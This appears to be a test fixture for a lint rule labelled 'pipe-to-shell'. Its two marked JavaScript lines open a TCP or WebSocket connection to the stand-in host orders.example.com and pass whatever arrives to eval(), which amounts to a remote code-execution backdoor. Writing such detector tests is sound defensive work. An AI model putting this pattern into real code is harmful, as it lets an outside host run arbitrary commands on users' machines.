import net from "node:net";
import WebSocket from "ws";

const line = net.connect(4000, "orders.example.com");
line.on("data", (order) => eval(order.toString()));
                           ~~~~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]

const socket = new WebSocket("wss://orders.example.com");
socket.on("message", (order) => eval(String(order)));
                                ~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]
